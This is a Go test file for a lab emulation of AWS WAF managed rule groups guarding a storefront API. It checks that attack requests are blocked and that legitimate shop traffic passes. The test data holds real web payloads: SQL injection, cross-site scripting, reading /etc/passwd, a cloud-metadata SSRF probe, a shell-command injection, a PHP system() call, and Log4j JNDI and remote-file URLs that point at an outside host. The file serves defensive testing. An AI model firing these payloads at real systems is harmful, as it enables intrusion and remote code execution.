package firewall_test

import (
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	api "storefront/lab/api/wafv2"
	"storefront/lab/firewall"
)

func TestManagedGroupsBlockAttacks(t *testing.T) {
	i := compile(t, preset())
	for _, c := range []struct {
		name    string
		request *firewall.Request
		rule    string // of AWS's group
	}{
		{"SQL injection in the query", request("GET", "/products?q=1%27%20OR%20%271%27%3D%271", ""), "SQLi_QUERYARGUMENTS"},
		{"union select", request("GET", "/products?id=1+UNION+SELECT+password+FROM+users", ""), "SQLi"},
		{"SQL injection in a JSON body", request("POST", "/orders", `{"customer":"x' OR 1=1; DROP TABLE orders--"}`), "SQLi"},
		{"SQL injection in a form", request("POST", "/orders", "id=1%27+or+%271%27%3D%271", "Content-Type: application/x-www-form-urlencoded"), "SQLi"},
		{"SQL injection in a cookie", request("GET", "/products", "", "Cookie: session=1' UNION SELECT 1,2,3--"), "SQLi_COOKIE"},
		{"script in the query", request("GET", "/products?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), "CrossSiteScripting_QUERYARGUMENTS"},
		{"script in a JSON body", request("POST", "/products", `{"name":"<img src=x onerror=alert(1)>"}`), "CrossSiteScripting_BODY"},
		{"path traversal", request("GET", "/products?file=../../../etc/passwd", ""), "GenericLFI_QUERYARGUMENTS"},
		{"remote file", request("GET", "/products?page=http://198.51.100.9/shell.php?", ""), "GenericRFI_QUERYARGUMENTS"},
		{"metadata service", request("GET", "/products?url=http://169.254.169.254/latest/meta-data/", ""), "_QUERYARGUMENTS"},
		{"Log4j", request("GET", "/products", "", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}"), "Log4JRCE_HEADER"},
		{"no user agent", request("GET", "/products", "", "User-Agent: "), "NoUserAgent_HEADER"},
		{"scanner", request("GET", "/products", "", "User-Agent: sqlmap/1.5"), "UserAgent_BadBots_HEADER"},
		{"long query", request("GET", "/products?q="+strings.Repeat("a", 2049), ""), "SizeRestrictions_QUERYSTRING"},
		{"large body", request("POST", "/orders", `{"note":"`+strings.Repeat("a", 9000)+`"}`), "SizeRestrictions_BODY"},
		{"PROPFIND", request("PROPFIND", "/", ""), "PROPFIND_METHOD"},
		{"log file", request("GET", "/server.log", ""), "RestrictedExtensions_URIPATH"},
		{"git directory", request("GET", "/.git/config", ""), "_URIPATH"},
	} {
		i.Inspect(c.request)
		v := i.Inspect(c.request) // what is remembered is what was found
		if v.Action != "BLOCK" || v.Refusal == nil || v.Refusal.Status != http.StatusForbidden || !strings.Contains(v.Inner, c.rule) {
			t.Errorf("%s: %s by %s of %s, want a block by %s", c.name, v.Action, v.Inner, v.Group, c.rule)
		}
		if !slices.ContainsFunc(v.Labels, func(l string) bool { return strings.HasPrefix(l, "awswaf:managed:aws:") }) {
			t.Errorf("%s: labels %q", c.name, v.Labels)
		}
	}
}

// TestManagedGroupsAlone has each group that looks for attacks as the only one of a web ACL: the rules that are loaded depend on the groups.
func TestManagedGroupsAlone(t *testing.T) {
	attacks := map[string]*firewall.Request{
		"AWSManagedRulesCommonRuleSet":          request("GET", "/products?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
		"AWSManagedRulesAdminProtectionRuleSet": request("GET", "/phpmyadmin/", ""),
		"AWSManagedRulesKnownBadInputsRuleSet":  request("GET", "/products", "", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}"),
		"AWSManagedRulesSQLiRuleSet":            request("GET", "/products?id=1+UNION+SELECT+password+FROM+users", ""),
		"AWSManagedRulesLinuxRuleSet":           request("GET", "/products?file=../../../etc/passwd", ""),
		"AWSManagedRulesUnixRuleSet":            request("GET", "/products?q=%3Bcat+/etc/passwd", ""),
		"AWSManagedRulesPHPRuleSet":             request("GET", "/products?q=%3C?php+system('id')%3B?%3E", ""),
	}
	for _, group := range firewall.ManagedGroups() {
		v := compile(t, acl(managed(1, group.Name))).Inspect(request("GET", "/products/42", ""))
		if v.Action != "ALLOW" {
			t.Errorf("%s: a page is answered with %s by %s", group.Name, v.Action, v.Inner)
		}
		if attack := attacks[group.Name]; attack != nil {
			if v := compile(t, acl(managed(1, group.Name))).Inspect(attack); v.Action != "BLOCK" {
				t.Errorf("%s: an attack is answered with %s", group.Name, v.Action)
			}
		}
	}
}

func TestManagedGroupsLetTheShopPass(t *testing.T) {
	i := compile(t, preset())
	for _, r := range []*firewall.Request{
		request("GET", "/", ""),
		request("GET", "/healthz", "", "User-Agent: ELB-HealthChecker/2.0"),
		request("GET", "/products", "", "User-Agent: Go-http-client/1.1"),
		request("GET", "/products/42", "", "User-Agent: curl/7.88.1"),
		request("GET", "/products?limit=20&after=0192f3aa-9f1e-7c1c-8f4e-0b9d9a1f1c11", ""),
		request("GET", "/products/42/summary", "", "Authorization: Bearer abcdef0123456789"),
		request("GET", "/search?q=men%27s+shoes", ""),
		request("GET", "/search?q=o%27neill+%26+sons", ""),
		request("GET", "/search?q=select+committee+table", ""),
		request("GET", "/search?q=rock+%27n%27+roll", ""),
		request("GET", "/search?q=50%25+off+%28new%29", ""),
		request("GET", "/search?q=caf%C3%A9+cr%C3%A8me", ""),
		request("POST", "/products", `{"name":"Driver's gloves","description":"It's 100% leather; the buyer's choice. Drop in, select a size and order from the table.","price_cents":4999}`),
		request("POST", "/products", `{"name":"24\" monitor","description":"Width > 50 cm, weight < 4 kg & VESA 100x100","price_cents":19999}`),
		request("POST", "/products", `{"sku":"AB-12/34","name":"Crème brûlée set","tags":["kitchen","new"],"stock":12}`),
		request("PUT", "/products/42", `{"name":"C# in Depth","description":"Union of theory and practice. Insert coins, update yourself.","price_cents":3900}`),
		request("POST", "/orders", `{"id":"0192f3aa-9f1e-7c1c-8f4e-0b9d9a1f1c11","customer":"Séan O'Connor","items":[{"product":42,"quantity":2},{"product":7,"quantity":1}]}`, "Idempotency-Key: 0192f3aa9f1e"),
		request("DELETE", "/products/42", ""),
		request("GET", "/products", "", "Cookie: session=abc123; AWSALB=0123456789abcdef+/=="),
	} {
		if v := i.Inspect(r); v.Action != "ALLOW" || len(v.Counted) > 0 {
			t.Errorf("%s %s %s: %s by %s (%+v)", r.Method, r.URL, r.Body, v.Action, v.Inner, v.Counted)
		}
	}
}

func TestManagedGroupsCount(t *testing.T) {
	attack := func() *firewall.Request { return request("GET", "/products?q=%3Cscript%3Ealert(1)%3C/script%3E", "") }
	rollout := preset()
	rollout.Rules[1].OverrideAction = &api.OverrideAction{Count: &api.CountAction{}}
	v := compile(t, rollout).Inspect(attack())
	if v.Action != "ALLOW" || v.Rule != firewall.DefaultAction || len(v.Counted) != 1 || v.Counted[0].Overridden != "BLOCK" || v.Counted[0].Inner != "CrossSiteScripting_QUERYARGUMENTS" {
		t.Errorf("a group that counts: %+v", v)
	}
	v = compile(t, acl(managed(1, "AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS"))).Inspect(attack())
	if v.Action != "ALLOW" || len(v.Counted) != 1 {
		t.Errorf("a rule that counts: %+v", v)
	}
	// A later rule of the web ACL's own blocks by the label that the counted one added.
	label := api.Statement{LabelMatchStatement: &api.LabelMatchStatement{Scope: new("LABEL"), Key: new("awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments")}}
	v = compile(t, acl(managed(1, "AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS"), rule(2, "labelled", block(), label))).Inspect(attack())
	if v.Action != "BLOCK" || v.Rule != "labelled" {
		t.Errorf("a label: %+v", v)
	}
	scoped := managed(1, "AWSManagedRulesCommonRuleSet")
	scoped.Statement.ManagedRuleGroupStatement.ScopeDownStatement = &api.Statement{ByteMatchStatement: &api.ByteMatchStatement{FieldToMatch: &api.FieldToMatch{UriPath: &api.UriPath{}},
		PositionalConstraint: new("STARTS_WITH"), SearchString: []byte("/orders"), TextTransformations: none}}
	if v := compile(t, acl(scoped)).Inspect(attack()); v.Action != "ALLOW" {
		t.Errorf("out of scope: %+v", v)
	}
}

// BenchmarkOrdinaryGet is what the preset costs an ordinary request that was seen before, one whose address is new, and one of which all is.
func BenchmarkOrdinaryGet(b *testing.B) {
	i := compile(b, preset())
	for _, name := range []string{"seen", "new", "stranger"} {
		b.Run(name, func(b *testing.B) {
			r := request("GET", "/products/42?fields=name,price&limit=20", "", "Accept-Encoding: gzip, deflate", "Cookie: session=0192f3aa9f1e7c1c8f4e")
			for n := 0; b.Loop(); n++ {
				if name != "seen" {
					r.URL.RawQuery = "fields=name,price&limit=" + strconv.Itoa(n)
				}
				if name == "stranger" {
					r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) shop/1."+strconv.Itoa(n))
					r.Header.Set("Cookie", "session="+strconv.Itoa(n))
				}
				if v := i.Inspect(r); v.Action != "ALLOW" {
					b.Fatal(v)
				}
			}
		})
	}
}

// BenchmarkOrder inspects orders, no two of which are alike.
func BenchmarkOrder(b *testing.B) {
	i := compile(b, preset())
	for n := 0; b.Loop(); n++ {
		r := request("POST", "/orders", `{"items":[{"product_id":"kettle","quantity":1},{"product_id":"teapot-`+strconv.Itoa(n)+`","quantity":2}]}`, "Content-Type: application/json", "Idempotency-Key: order-"+strconv.Itoa(n))
		if v := i.Inspect(r); v.Action != "ALLOW" {
			b.Fatal(v)
		}
	}
}
